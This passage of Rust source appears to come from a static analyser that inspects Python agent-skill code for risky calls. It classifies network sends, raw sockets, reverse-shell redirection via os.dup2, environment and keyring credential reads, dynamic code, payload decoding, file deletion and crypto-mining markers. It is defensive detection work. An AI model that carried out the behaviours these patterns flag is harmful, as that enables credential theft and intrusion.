                    .and_then(|k| self.fold(k, 0))
                    .unwrap_or_default();
                if v.contains("globals")
                    || v.contains("builtins")
                    || v.contains("locals")
                    || v.contains("vars")
                {
                    (key, true)
                } else {
                    (String::new(), false)
                }
            }
            "parenthesized_expression" => f
                .named_child(0)
                .map(|x| self.callee(x, depth + 1))
                .unwrap_or_default(),
            _ => (String::new(), false),
        }
    }

    fn args<'t>(&self, call: Node<'t>) -> Vec<Node<'t>> {
        if let Some(g) = call
            .child_by_field_name("arguments")
            .filter(|a| a.kind_name() == "generator_expression")
        {
            return vec![g];
        }
        call.child_by_field_name("arguments")
            .map(|a| {
                named_children(a)
                    .into_iter()
                    .filter(|n| !matches!(n.kind_name(), "keyword_argument" | "comment"))
                    .collect()
            })
            .unwrap_or_default()
    }

    fn kwarg<'t>(&self, call: Node<'t>, name: &str) -> Option<Node<'t>> {
        let a = call.child_by_field_name("arguments")?;
        named_children(a)
            .into_iter()
            .find(|n| {
                n.kind_name() == "keyword_argument"
                    && n.child_by_field_name("name")
                        .is_some_and(|k| self.t(k) == name)
            })
            .and_then(|n| n.child_by_field_name("value"))
    }

    fn emit(&mut self, mut ev: Evidence, start: usize, end: usize, cx: &Ctx) -> usize {
        if let Some(g) = cx.gate {
            ev.tags.insert(g);
        }
        if cx.unbounded && ev.op != Op::Loop {
            ev.tags.insert(Tag::Unbounded);
        }
        let ev = self.src.at(ev, start, end, LANG);
        self.sink.push(ev);
        self.sink.items.len()
    }

    /// Emits `ev` for call `c`, binding its result as `$call_N`.
    fn emit_call(&mut self, mut ev: Evidence, c: Node, cx: &Ctx, produces: bool) {
        if produces {
            let b = self.src.pos_bind("call", c.start_byte());
            ev.output = Some(b.clone());
            self.call_bind.insert(c.start_byte(), b);
        }
        self.emit(ev, c.start_byte(), c.end_byte(), cx);
    }

    fn call(&mut self, c: Node, cx: &Ctx) {
        let Some(f) = c.child_by_field_name("function") else {
            return;
        };
        let (name, computed) = self.callee(f, 0);
        let args = self.args(c);
        let arg0 = args.first().copied();
        let inputs = self.bindings(c.child_by_field_name("arguments").unwrap_or(c), cx);
        let method = name.rsplit('.').next().unwrap_or("").to_string();
        let obj = if f.kind_name() == "attribute" {
            f.child_by_field_name("object")
        } else {
            None
        };
        let tagged = |mut ev: Evidence| {
            if computed {
                ev.tags.insert(Tag::Obfuscated);
            }
            ev.instrument = name.clone();
            ev
        };
        let n = name.as_str();
        // ---- local functions (same file or an imported skill module)
        let local_key = if f.kind_name() == "identifier" {
            self.locals
                .get(self.t(f))
                .filter(|k| !k.starts_with("mod:"))
                .cloned()
        } else if let Some(o) = obj.filter(|o| o.kind_name() == "identifier") {
            self.locals
                .get(self.t(o))
                .filter(|k| k.starts_with("mod:"))
                .map(|m| format!("{}::{method}", &m[4..]))
        } else {
            None
        };
        if let Some(key) = local_key {
            let mut ev = Evidence::new(Op::CallLocal, A::CallTool, R::Codebase, key)
                .object("call into the skill's own code");
            ev.inputs = args
                .iter()
                .map(|a| self.bindings(*a, cx).into_iter().next().unwrap_or_default())
                .collect();
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, true);
            return;
        }
        // ---- network
        if matches!(
            n,
            "requests.post"
                | "requests.put"
                | "requests.patch"
                | "httpx.post"
                | "httpx.put"
                | "httpx.patch"
                | "requests.request"
                | "httpx.request"
                | "urllib.request.urlopen"
                | "urllib.request.Request"
                | "urllib.request.urlretrieve"
                | "requests.get"
                | "httpx.get"
                | "requests.head"
                | "httpx.stream"
                | "urllib3.request"
                | "requests.delete"
        ) || n.starts_with("requests.Session")
            || n.starts_with("httpx.Client")
            || n.starts_with("aiohttp.")
            || matches!(method.as_str(), "post" | "put" | "patch") && n.contains("session")
        {
            let url_node = if n.ends_with(".request") {
                args.get(1).copied()
            } else {
                arg0
            }
            .or_else(|| self.kwarg(c, "url"));
            let url = url_node
                .and_then(|u| self.fold(u, 0))
                .unwrap_or_else(|| url_node.map(|u| self.t(u).to_string()).unwrap_or_default());
            let method_send = matches!(method.as_str(), "post" | "put" | "patch")
                || n.ends_with(".request")
                    && arg0.and_then(|a| self.fold(a, 0)).is_some_and(|m| {
                        matches!(m.to_uppercase().as_str(), "POST" | "PUT" | "PATCH")
                    });
            let body = ["data", "json", "files", "content"]
                .iter()
                .find_map(|k| self.kwarg(c, k));
            let sends =
                method_send || body.is_some() || n == "urllib.request.Request" && args.len() > 1;
            let mut ev = if sends {
                Evidence::new(Op::NetSend, A::Transfer, R::Network, url.clone())
                    .object("data sent over HTTP")
            } else {
                Evidence::new(Op::NetFetch, A::Request, R::Network, url.clone())
                    .object("HTTP request")
            };
            ev.tags.extend(classify_url(&url));
            ev.inputs = inputs;
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, true);
            return;
        }
        if matches!(method.as_str(), "urlopen") {
            let url = arg0.and_then(|u| self.fold(u, 0)).unwrap_or_default();
            let mut ev = Evidence::new(
                if args.len() > 1 || self.kwarg(c, "data").is_some() {
                    Op::NetSend
                } else {
                    Op::NetFetch
                },
                A::Request,
                R::Network,
                url.clone(),
            )
            .object("HTTP request")
            .tags(classify_url(&url));
            if ev.op == Op::NetSend {
                ev.act = A::Transfer;
            }
            ev.inputs = inputs;
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, true);
            return;
        }
        if matches!(
            n,
            "socket.gethostbyname"
                | "socket.getaddrinfo"
                | "socket.gethostbyname_ex"
                | "dns.resolver.resolve"
                | "dns.resolver.query"
        ) || n.ends_with("resolver.resolve")
        {
            let host = arg0
                .map(|a| self.fold(a, 0).unwrap_or_else(|| self.t(a).to_string()))
                .unwrap_or_default();
            let computed_name =
                arg0.is_some_and(|a| a.kind_name() != "string" || self.t(a).contains('{'));
            let mut ev = Evidence::new(
                Op::DnsQuery,
                if computed_name {
                    A::Transfer
                } else {
                    A::Request
                },
                R::Network,
                host,
            )
            .object(if computed_name {
                "DNS lookup of a computed name"
            } else {
                "DNS lookup"
            });
            if computed_name {
                ev.tags.insert(Tag::Encoded);
            }
            ev.inputs = inputs;
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, false);
            return;
        }
        if matches!(n, "socket.create_connection")
            || method == "connect" && obj.is_some_and(|o| self.looks_like_socket(o))
        {
            let target = arg0
                .map(|a| self.fold(a, 0).unwrap_or_else(|| self.t(a).to_string()))
                .unwrap_or_default();
            let mut ev = Evidence::new(Op::SocketConnect, A::Transfer, R::Network, target.clone())
                .object("raw socket");
            ev.tags.extend(classify_url(&format!(
                "tcp://{}",
                target
                    .trim_matches(|c| c == '(' || c == ')')
                    .split(',')
                    .next()
                    .unwrap_or("")
                    .trim_matches(|c| c == '"' || c == '\'')
            )));
            ev.inputs = inputs;
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, false);
            return;
        }
        if matches!(method.as_str(), "send" | "sendall" | "sendto")
            && obj.is_some_and(|o| self.looks_like_socket(o))
            || n.ends_with(".sendmail")
            || n.ends_with(".send_message")
        {
            let mut ev = Evidence::new(
                Op::NetSend,
                A::Transfer,
                R::Network,
                obj.map(|o| self.t(o).to_string()).unwrap_or_default(),
            )
            .object("data sent over a socket or mail");
            ev.inputs = inputs;
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, false);
            return;
        }
        if n == "os.dup2" {
            let ev = Evidence::new(
                Op::ReverseShell,
                A::CallTool,
                R::Network,
                self.t(c).to_string(),
            )
            .object("process I/O redirected to a socket");
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, false);
            return;
        }
        // ---- environment
        if matches!(n, "os.getenv" | "os.environ.get" | "os.environ.setdefault") {
            let var = arg0.and_then(|a| self.fold(a, 0)).unwrap_or_default();
            self.env_read(&var, c, cx);
            return;
        }
        if matches!(n, "dict" | "json.dumps" | "str" | "repr" | "list" | "print")
            && args.iter().any(|a| self.is_environ(*a))
            || matches!(
                n,
                "os.environ.copy" | "os.environ.items" | "os.environ.keys" | "os.environ.values"
            )
        {
            let ev = tagged(
                Evidence::new(Op::EnvDump, A::Read, R::Credentials, "environment")
                    .object("whole environment read"),
            );
            self.emit_call(ev, c, cx, true);
            if n != "print" {
                return;
            }
        }
        // ---- processes
        if matches!(
            n,
            "subprocess.run"
                | "subprocess.call"
                | "subprocess.check_call"
                | "subprocess.check_output"
                | "subprocess.Popen"
                | "subprocess.getoutput"
                | "subprocess.getstatusoutput"
                | "os.system"
                | "os.popen"
                | "pty.spawn"
                | "asyncio.create_subprocess_shell"
                | "asyncio.create_subprocess_exec"
                | "commands.getoutput"
        ) || n.starts_with("os.exec")
            || n.starts_with("os.spawn")
            || n.starts_with("os.posix_spawn")
        {
            self.process(c, n, &args, inputs, computed, cx);
            return;
        }
        // ---- dynamic code
        if matches!(
            n,
            "eval"
                | "exec"
                | "compile"
                | "builtins.eval"
                | "builtins.exec"
                | "execfile"
                | "runpy.run_path"
                | "runpy.run_module"
        ) || matches!(method.as_str(), "eval" | "exec") && computed
        {
            let code = arg0
                .map(|a| self.fold(a, 0).unwrap_or_else(|| self.t(a).to_string()))
                .unwrap_or_default();
            let mut ev = Evidence::new(
                Op::DynamicCode,
                A::CallTool,
                R::Process,
                crate::text::snippet(&code, 120),
            )
            .object(format!("{n} of computed code"));
            ev.inputs = inputs;
            if computed {
                ev.tags.insert(Tag::Obfuscated);
            }
            let literal = arg0.is_some_and(|a| a.kind_name() == "string");
            let ev = tagged(ev);
            if !literal || computed {
                self.emit_call(ev, c, cx, false);
            }
            if let (Some(a), true) = (arg0, literal) {
                // exec("...") of a literal: analyse the code itself.
                if let Some(code) = self.fold(a, 0) {
                    let src = self.src;
                    let sub = src.derived(&code, a.start_byte(), a.end_byte(), Origin::Script);
                    super::extract_code(Lang::Python, &sub, self.sink);
                }
            }
            return;
        }
        if matches!(
            n,
            "pickle.loads"
                | "pickle.load"
                | "marshal.loads"
                | "yaml.load"
                | "dill.loads"
                | "yaml.unsafe_load"
        ) {
            let mut ev = Evidence::new(Op::DynamicCode, A::CallTool, R::Process, n.to_string())
                .object("unsafe deserialization (runs code)");
            ev.inputs = inputs;
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, true);
            return;
        }
        if (matches!(n, "__import__" | "importlib.import_module") || computed && n.is_empty())
            && arg0.is_some_and(|a| a.kind_name() != "string")
        {
            let ev = tagged(
                Evidence::new(
                    Op::DynamicCode,
                    A::CallTool,
                    R::Process,
                    self.t(c).to_string(),
                )
                .object("module imported by a computed name")
                .tag(Tag::Obfuscated),
            );
            self.emit_call(ev, c, cx, true);
            return;
        }
        // ---- decoding
        if matches!(
            n,
            "base64.b64decode"
                | "base64.b32decode"
                | "base64.b16decode"
                | "base64.a85decode"
                | "base64.b85decode"
                | "base64.urlsafe_b64decode"
                | "base64.decodebytes"
                | "bytes.fromhex"
                | "binascii.unhexlify"
                | "binascii.a2b_base64"
                | "binascii.a2b_hex"
                | "codecs.decode"
                | "zlib.decompress"
                | "gzip.decompress"
                | "lzma.decompress"
                | "bz2.decompress"
        ) || method == "fromhex"
        {
            self.decode(c, n, arg0, &args, inputs, cx);
            return;
        }
        // ---- files
        if n == "open" || n == "io.open" || n == "codecs.open" || n == "pathlib.Path().open" {
            let p = if n == "pathlib.Path().open" {
                obj.and_then(|o| self.path_of(o))
            } else {
                arg0.and_then(|a| self.fold(a, 0))
            }
            .unwrap_or_default();
            let mode = args
                .get(1)
                .or(self.kwarg(c, "mode").as_ref())
                .and_then(|m| self.fold(*m, 0))
                .unwrap_or_else(|| "r".into());
            let write = mode.contains('w')
                || mode.contains('a')
                || mode.contains('x')
                || mode.contains('+');
            self.file_op(
                if write { Op::FileWrite } else { Op::FileRead },
                &p,
                c,
                inputs,
                cx,
                &name,
            );
            return;
        }
        if matches!(method.as_str(), "write" | "write_bytes" | "write_text")
            && arg0.is_some_and(|a| {
                self.is_encrypt(a)
                    || a.kind_name() == "identifier" && self.enc_vars.contains(self.t(a))
            })
        {
            self.enc_writes.push((
                c.start_byte(),
                c.end_byte(),
                cx.func.as_ref().map(|f| f.0.clone()),
            ));
        }
        if matches!(
            method.as_str(),
            "read_text"
                | "read_bytes"
                | "write_text"
                | "write_bytes"
                | "unlink"
                | "rmdir"
                | "chmod"
                | "iterdir"
                | "rglob"
                | "glob"
                | "touch"
                | "mkdir"
                | "open"
        ) && obj.is_some()
        {
            let p = obj.and_then(|o| self.path_of(o));
            if let Some(p) = p {
                match method.as_str() {
                    "read_text" | "read_bytes" => {
                        self.file_op(Op::FileRead, &p, c, inputs, cx, &name)
                    }
                    "write_text" | "write_bytes" => {
                        self.file_op(Op::FileWrite, &p, c, inputs, cx, &name)
                    }
                    "unlink" | "rmdir" => self.file_op(Op::FileDelete, &p, c, inputs, cx, &name),
                    "rglob" | "glob" | "iterdir" => self.scan(&p, c, cx, &name),
                    _ => {}
                }
            }
            return;
        }
        if matches!(
            n,
            "shutil.rmtree"
                | "os.remove"
                | "os.unlink"
                | "os.rmdir"
                | "os.removedirs"
                | "shutil.move"
        ) {
            let p = arg0.and_then(|a| self.path_of(a)).unwrap_or_default();
            let mut tags = Vec::new();
            if n == "shutil.rmtree" || n == "os.removedirs" {
                tags.push(Tag::Recursive);
            }
            if n == "shutil.move" {
                if let Some(d) = args.get(1).and_then(|a| self.path_of(*a)) {
                    self.file_op(Op::FileWrite, &d, c, inputs.clone(), cx, &name);
                }
                return;
            }
            let (scope, ptags) = classify_path(&p);
            let ev = tagged(
                Evidence::new(Op::FileDelete, A::Write, scope, p)
                    .tags(ptags)
                    .tags(tags)
                    .object("file deletion"),
            );
            self.emit_call(ev, c, cx, false);
            return;
        }
        if matches!(
            n,
            "shutil.copy"
                | "shutil.copy2"
                | "shutil.copyfile"
                | "shutil.copytree"
                | "shutil.make_archive"
        ) {
            if let Some(p) = args
                .get(if n == "shutil.make_archive" { 2 } else { 0 })
                .and_then(|a| self.path_of(*a))
            {
                let (scope, tags) = classify_path(&p);
                if scope == R::Credentials
                    || tags.contains(&Tag::BrowserStore)
                    || tags.contains(&Tag::Wallet)
                    || tags.contains(&Tag::BroadTarget)
                {
                    self.file_op(Op::FileRead, &p, c, inputs.clone(), cx, &name);
                }
            }
            if let Some(d) = args.get(1).and_then(|a| self.path_of(*a)) {
                let (_, tags) = classify_path(&d);
                if super::indicators::is_control_target(&tags) {
                    self.file_op(Op::FileWrite, &d, c, inputs, cx, &name);
                }
            }
            return;
        }
        if matches!(
            n,
            "os.walk" | "os.listdir" | "os.scandir" | "glob.glob" | "glob.iglob"
        ) {
            let p = arg0.and_then(|a| self.path_of(a)).unwrap_or_default();
            self.scan(&p, c, cx, &name);
            return;
        }
        if n == "sqlite3.connect" {
            let p = arg0.and_then(|a| self.path_of(a)).unwrap_or_default();
            let (scope, tags) = classify_path(&p);
            if scope == R::Credentials {
                let ev = tagged(
                    Evidence::new(Op::FileRead, A::Read, scope, p)
                        .tags(tags)
                        .object("credential database opened"),
                );
                self.emit_call(ev, c, cx, true);
            }
            return;
        }
        if n == "os.chmod" {
            let p = arg0.and_then(|a| self.path_of(a)).unwrap_or_default();
            let mode = args.get(1).map(|m| self.t(*m)).unwrap_or("");
            let mut ev = Evidence::new(Op::PermChange, A::UpdateState, classify_path(&p).0, p)
                .object(format!("chmod {mode}"));
            if mode.contains("777") || mode.contains("S_IWOTH") {
                ev.tags.insert(Tag::WorldWritable);
            }
            if mode.contains("S_ISUID")
                || mode.contains("0o4")
                || mode.contains("0o6")
                || mode.contains("S_ISGID")
            {
                ev.tags.insert(Tag::Setuid);
            }
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, false);
            return;
        }
        if matches!(n, "os.setuid" | "os.seteuid" | "os.setgid") {
            let ev = tagged(
                Evidence::new(
                    Op::Privileged,
                    A::UpdateState,
                    R::Process,
                    self.t(c).to_string(),
                )
                .object("process identity changed"),
            );
            self.emit_call(ev, c, cx, false);
            return;
        }
        // ---- secrets, system information, clipboard
        if matches!(
            n,
            "keyring.get_password" | "keyring.get_credential" | "win32crypt.CryptUnprotectData"
        ) {
            let mut ev = tagged(
                Evidence::new(
                    Op::KeychainRead,
                    A::Read,
                    R::Credentials,
                    self.t(c).to_string(),
                )
                .object("secret read from the system keyring"),
            );
            if n.starts_with("keyring.") {
                // `keyring.get_password("svc", "user")`: one named secret.
                ev.tags.insert(Tag::NamedItem);
            }
            self.emit_call(ev, c, cx, true);
            return;
        }
        if matches!(n, "pyperclip.paste" | "tkinter.Tk().clipboard_get")
            || method == "clipboard_get"
        {
            let ev = tagged(
                Evidence::new(Op::ClipboardRead, A::Read, R::UserData, "clipboard")
                    .object("clipboard read"),
            );
            self.emit_call(ev, c, cx, true);
            return;
        }
        if matches!(
            n,
            "getpass.getuser"
                | "socket.gethostname"
                | "platform.node"
                | "platform.platform"
                | "platform.uname"
                | "uuid.getnode"
                | "os.getlogin"
                | "platform.system"
        ) {
            let ev = tagged(
                Evidence::new(Op::SysInfo, A::Read, R::Other, n.to_string())
                    .object("system information"),
            );
            self.emit_call(ev, c, cx, true);
            return;
        }
        if n == "time.sleep" {
            let secs: f64 = arg0
                .map(|a| self.t(a))
                .and_then(|t| t.replace('_', "").parse().ok())
                .unwrap_or(0.0);
            if secs >= 60.0 {
                let ev = tagged(
                    Evidence::new(Op::Sleep, A::UpdateState, R::Process, format!("{secs}s"))
                        .object("long sleep before acting")
                        .tag(Tag::DateGate),
                );
                self.emit_call(ev, c, cx, false);
            }
            return;
        }
        if matches!(
            n,
            "threading.Thread" | "multiprocessing.Process" | "os.fork"
        ) && cx.unbounded
        {
            let ev = tagged(
                Evidence::new(Op::ForkBomb, A::CallTool, R::Process, n.to_string())
                    .object("processes or threads spawned without bound")
                    .tag(Tag::Unbounded),
            );
            self.emit_call(ev, c, cx, false);
            return;
        }
        if (n == "print"
            || n.starts_with("logging.")
            || n == "sys.stdout.write"
            || n == "sys.stderr.write")
            && !inputs.is_empty()
        {
            let mut ev = Evidence::new(Op::Output, A::Notify, R::Memory, "stdout")
                .object("value printed to the agent's context");
            ev.inputs = inputs;
            let ev = tagged(ev);
            self.emit_call(ev, c, cx, false);
            return;
        }
        // Mining pools and miners named in any call.
        let call_text = self.t(c);
        if call_text.contains("stratum+tcp")
            || call_text.contains("stratum+ssl")
            || call_text.contains("xmrig")
        {
            let ev = tagged(
                Evidence::new(
                    Op::Mining,
                    A::CallTool,
                    R::Process,
                    crate::text::snippet(call_text, 100),
                )
                .object("cryptocurrency mining"),
            );
            self.emit_call(ev, c, cx, false);
        }
    }

    fn looks_like_socket(&self, o: Node) -> bool {
        let t = self.t(o).to_lowercase();
        t.contains("sock") || t == "s" || t.contains("conn") || t.contains("socket")
    }

    fn is_environ(&self, n: Node) -> bool {
        let t = self.t(n);
        (t == "os.environ"
            || t == "environ"
            || t.ends_with(".environ")
            || t.starts_with("**os.environ"))
            && n.kind_name() != "subscript"
            || n.kind_name() == "dictionary_splat" && t.contains("environ")
    }

    fn env_read(&mut self, var: &str, c: Node, cx: &Ctx) {
        if var.is_empty() || var == "HOME" || var == "PATH" {
            return;
        }
        let secret = is_secret_env(var);
        let ev = Evidence::new(
            Op::EnvRead,
            A::Read,
            if secret { R::Credentials } else { R::Memory },
            var,
        )
        .object("environment variable")
        .instrument("os.environ");
        self.emit_call(ev, c, cx, true);
    }

    fn file_op(
        &mut self,
        op: Op,
        p: &str,
        c: Node,
        inputs: Vec<String>,
        cx: &Ctx,
        instrument: &str,
    ) {
        let (scope, tags) = classify_path(p);
        let act = match op {
            Op::FileRead => A::Read,
            _ => A::Write,
        };
        let mut ev = Evidence::new(op, act, scope, p)
            .tags(tags)
            .instrument(instrument)
            .object(match op {
                Op::FileRead => "file read",
                Op::FileWrite => "file write",
                _ => "file deletion",
            });
        if op != Op::FileRead {
            ev.inputs = inputs;
        }
        self.emit_call(ev, c, cx, op == Op::FileRead);
    }

    fn scan(&mut self, p: &str, c: Node, cx: &Ctx, instrument: &str) {
        let (scope, mut tags) = classify_path(p);
        let broad = tags.contains(&Tag::BroadTarget)
            || p == "~"
            || p == "/"
            || p.starts_with("~/") && p.matches('/').count() <= 1;
        if broad {
            tags.insert(Tag::WideScan);
        }
        let scope = if broad && scope == R::LocalFs {
            R::UserData
        } else {
            scope
        };
        let ev = Evidence::new(Op::FileRead, A::Read, scope, p)
            .tags(tags)
            .instrument(instrument)
            .object("file system scan");
        self.emit_call(ev, c, cx, true);
    }

    fn process<'t>(
        &mut self,
        c: Node<'t>,
        n: &str,
        args: &[Node<'t>],
        inputs: Vec<String>,
        computed: bool,
        cx: &Ctx,
    ) {
        let shell_kw = self.kwarg(c, "shell").is_some_and(|v| self.t(v) == "True");
        let detached = self
            .kwarg(c, "start_new_session")
            .is_some_and(|v| self.t(v) == "True")
            || self.kwarg(c, "creationflags").is_some()
            || self
                .kwarg(c, "preexec_fn")
                .is_some_and(|v| self.t(v).contains("setsid"));
        let silenced = ["stdout", "stderr"].iter().any(|k| {
            self.kwarg(c, k)
                .is_some_and(|v| self.t(v).contains("DEVNULL") || self.t(v).contains("devnull"))
        });
        let Some(cmd) = args.first().copied() else {
            return;
        };
        let before = self.sink.items.len();
        let string_cmd = shell_kw
            || matches!(
                n,
                "os.system"
                    | "os.popen"
                    | "subprocess.getoutput"
                    | "subprocess.getstatusoutput"
                    | "asyncio.create_subprocess_shell"
                    | "commands.getoutput"
            )
            || cmd.kind_name() == "string" && !n.starts_with("os.exec");
        if cmd.kind_name() == "list" || cmd.kind_name() == "tuple" || !string_cmd {
            // argv form
            let elems: Vec<Node> = if matches!(cmd.kind_name(), "list" | "tuple") {
                named_children(cmd)
            } else {
                args.to_vec()
            };
            // A variable standing for one of a few literal argv lists
            // (`for cmd in cmds.get(os_name, []):`, `cmd = ["x", "y"]`) is
            // analysed once per list.
            let cands: Vec<Vec<Val>> = if cmd.kind_name() == "identifier" {
                let id = self.t(cmd);
                match (self.argvs.get(id), self.conts.get(id)) {
                    (Some(a), _) => a.clone(),
                    (None, Some(Val::Seq(x)))
                        if matches!(x.first(), Some(Val::Str(_)))
                            && x.iter().all(|e| matches!(e, Val::Str(_) | Val::Dyn(_))) =>
                    {
                        vec![x.clone()]
                    }
                    _ => Vec::new(),
                }
            } else {
                Vec::new()
            };
            let word_sets: Vec<Vec<Word>> = if cands.is_empty() {
                vec![
                    elems
                        .iter()
                        .map(|e| {
                            let v = self.fold(*e, 0);
                            let mut w = Word::lit(v.as_deref().unwrap_or(self.t(*e)));
                            w.dynamic = v.is_none();
                            w.reads = self.bindings(*e, cx);
                            w
                        })
                        .collect(),
                ]
            } else {
                let reads = self.bindings(cmd, cx);
                cands
                    .iter()
                    .take(MAX_CANDS)
                    .map(|c| {
                        c.iter()
                            .map(|v| {
                                let mut w = match v {
                                    Val::Str(s) => Word::lit(s),
                                    Val::Dyn(t) => {
                                        let mut w = Word::lit(t);
                                        w.dynamic = true;
                                        w
                                    }
                                    _ => Word::lit(""),
                                };
                                w.reads = reads.clone();
                                w
                            })
                            .collect()
                    })
                    .collect()
            };
            for words in word_sets {
                let mut evs = Vec::new();
                shell::analyze_argv(&words, &ArgvCx::default(), &mut evs);
                // `python -c CODE` / `bash -c CODE` / `perl -e CODE` in argv form.
                let values: Vec<&str> = words.iter().map(|w| w.value.as_str()).collect();
                if let Some((l, i)) = super::interp::code_arg(&values)
                    && !words[i].dynamic
                {
                    let code = words[i].value.clone();
                    let src = self.src;
                    let sub = src.derived(&code, c.start_byte(), c.end_byte(), Origin::Script);
                    super::interp::analyse(l, &sub, self.sink);
                }
                for mut ev in evs {
                    ev.inputs.extend(inputs.iter().cloned());
                    if computed {
                        ev.tags.insert(Tag::Obfuscated);
                    }
                    if ev.instrument.is_empty() {
                        ev.instrument = n.to_string();
                    }
                    self.emit_call(ev, c, cx, false);
                }
            }
        } else {
            let folded = self.fold(cmd, 0);
            match folded {
                Some(code) => {
                    let src = self.src;
                    let t = self.t(cmd);
                    let inner = t
                        .trim_start_matches(['r', 'b', 'u', 'f', 'R', 'B', 'U', 'F'])
                        .trim_matches(|c| c == '"' || c == '\'');
                    if cmd.kind_name() == "string" && inner == code {
                        let off = cmd.start_byte() + t.find(inner).unwrap_or(0);
                        let sub = src.nested(inner, off, Origin::Script);
                        super::extract_code(Lang::Shell, &sub, self.sink);
                    } else {
                        let sub =
                            src.derived(&code, cmd.start_byte(), cmd.end_byte(), Origin::Script);
                        super::extract_code(Lang::Shell, &sub, self.sink);
                    }
                }
                None => {
                    let mut ev =
                        Evidence::new(Op::Exec, A::CallTool, R::Process, self.t(cmd).to_string())
                            .object("shell command built at run time")
                            .instrument(n);
                    ev.inputs = inputs.clone();
                    if shell_kw || n == "os.system" || n == "os.popen" {
                        ev.tags.insert(Tag::ShellTrue);
                    }
                    self.emit_call(ev, c, cx, false);
                }
            }
        }
        // Tag and connect what the command did.
        let out = self.src.pos_bind("call", c.start_byte());
        self.call_bind.insert(c.start_byte(), out.clone());
        let empty = self.sink.items.len() == before;
        if empty {
            let mut ev = Evidence::new(Op::Exec, A::CallTool, R::Process, self.t(cmd).to_string())
                .object("subprocess")
                .instrument(n);
            ev.inputs = inputs.clone();
            self.emit_call(ev, c, cx, false);
        }
        for ev in &mut self.sink.items[before..] {
            if detached {
                ev.tags.insert(Tag::Detached);
            }
            if silenced {
                ev.tags.insert(Tag::Silenced);
            }
            if ev.output.is_none()
                && matches!(
                    ev.op,
                    Op::Exec | Op::NetFetch | Op::FileRead | Op::EnvDump | Op::KeychainRead
                )
            {
                ev.output = Some(out.clone());
            }
            for i in &inputs {
                if !ev.inputs.contains(i)
                    && matches!(
                        ev.op,
                        Op::Exec | Op::DynamicCode | Op::NetSend | Op::DnsQuery | Op::SocketConnect
                    )
                {
                    ev.inputs.push(i.clone());
                }
            }
        }
    }

    fn decode(
        &mut self,
        c: Node,
        n: &str,
        arg0: Option<Node>,
        args: &[Node],
        inputs: Vec<String>,
        cx: &Ctx,
    ) {
        let codec = args
            .get(1)
            .and_then(|a| self.fold(*a, 0))
            .unwrap_or_default()
            .to_lowercase();
        if n == "codecs.decode"
            && !matches!(
                codec.as_str(),
                "rot13" | "rot_13" | "hex" | "base64" | "zlib" | "bz2" | "uu"
            )
        {
            return;
        }
        let mut ev = Evidence::new(Op::Decode, A::Infer, R::Memory, n.to_string())
            .object("data decoded at run time")
            .instrument(n)
            .tag(Tag::Encoded);
        ev.inputs = inputs;
        self.emit_call(ev, c, cx, true);
        // Decode literal payloads ourselves and analyse them again.
        let Some(a) = arg0 else { return };
        let Some(lit) = self.fold(a, 0).or_else(|| self.literal_bytes_arg(a)) else {
            return;
        };
        let bytes: Option<Vec<u8>> = match n {
            "bytes.fromhex" | "binascii.unhexlify" | "binascii.a2b_hex" | "base64.b16decode" => {
                super::deobf::hex(&lit)
            }
            "base64.b32decode" => super::deobf::b32(&lit),
            "zlib.decompress" | "gzip.decompress" => None,
            "codecs.decode" if codec.starts_with("rot") => {
                Some(super::deobf::rot13(&lit).into_bytes())
            }
            "codecs.decode" if codec == "hex" => super::deobf::hex(&lit),
            _ if n.ends_with("fromhex") => super::deobf::hex(&lit),
            _ => super::deobf::b64(&lit),
        };
        let Some(mut bytes) = bytes else { return };
        let mut cut = None;
        if let Some((z, c)) = super::deobf::inflate_cut(&bytes) {
            bytes = z;
            cut = c.then_some("MAX_DECODED_BYTES");
        }
        let payload = super::deobf::printable(&bytes).or_else(|| {
            let d = super::deobf::decode_layers_cut(std::str::from_utf8(&bytes).unwrap_or(""));
            cut = cut.or(d.cut);
            d.text
        });
        if let Some(limit) = cut {
            let reason = super::deobf::cut_reason(self.src.path, limit);
            self.sink.incomplete_once(reason);
        }
        let Some(payload) = payload else {
            return;
        };
        let lang = Lang::sniff(&payload).unwrap_or(Lang::Python);
        let src = self.src;
        let sub = src.derived(&payload, a.start_byte(), a.end_byte(), Origin::Decoded);
        super::extract_code(lang, &sub, self.sink);
    }

    /// String values of an iterable: list/tuple/set literals (with `*splat`
    /// of known lists) or a variable holding one.
    fn iter_values(&self, n: Node) -> Vec<String> {
        match n.kind_name() {
            "identifier" => self.lists.get(self.t(n)).cloned().unwrap_or_default(),
            "list" | "tuple" | "set" => {
                let mut out = Vec::new();
                for el in named_children(n) {
                    if el.kind_name() == "list_splat" {
                        if let Some(inner) = el.named_child(0) {
                            out.extend(self.iter_values(inner));
                        }
                    } else if let Some(v) = self.fold(el, 0) {
                        out.push(v);
                    }
                    if out.len() > 256 {
                        break;
                    }
                }
                out
            }
            _ => Vec::new(),
        }
    }

    /// The literal value of an expression; containers keep their shape.
    /// [`Self::value_of`] where it can be a list or a dict: a string
    /// expression is not folded just to find out it is not one (that copied
    /// a growing `x` on every `x = x + 'ab'`).
    fn container_of(&self, n: Node, depth: usize) -> Option<Val> {
        if depth > 8 {
            return None;
        }
        match n.kind_name() {
            "list" | "tuple" | "set" | "dictionary" => self.value_of(n, depth),
            "parenthesized_expression" => n
                .named_child(0)
                .and_then(|x| self.container_of(x, depth + 1)),
            "identifier" => self.conts.get(self.t(n)).cloned(),
            _ => None,
        }
    }

    fn value_of(&self, n: Node, depth: usize) -> Option<Val> {
        if depth > 8 {
            return None;
        }
        match n.kind_name() {
            "list" | "tuple" | "set" => {
                let mut out = Vec::new();
                for el in named_children(n) {
                    if el.kind_name() == "list_splat" {
                        if let Some(inner) = el.named_child(0) {
                            out.extend(self.iter_elems(inner, depth + 1));
                        }
                    } else if el.kind_name() != "comment" {
                        out.push(
                            self.value_of(el, depth + 1)
                                .unwrap_or_else(|| Val::Dyn(self.t(el).to_string())),
                        );
                    }
                    if out.len() > 256 {
                        break;
                    }
                }
                Some(Val::Seq(out))
            }
            "dictionary" => {
                let mut out = Vec::new();
                for pair in named_children(n) {
                    if pair.kind_name() != "pair" {
                        continue;
                    }
                    let (Some(k), Some(v)) = (
                        pair.child_by_field_name("key"),
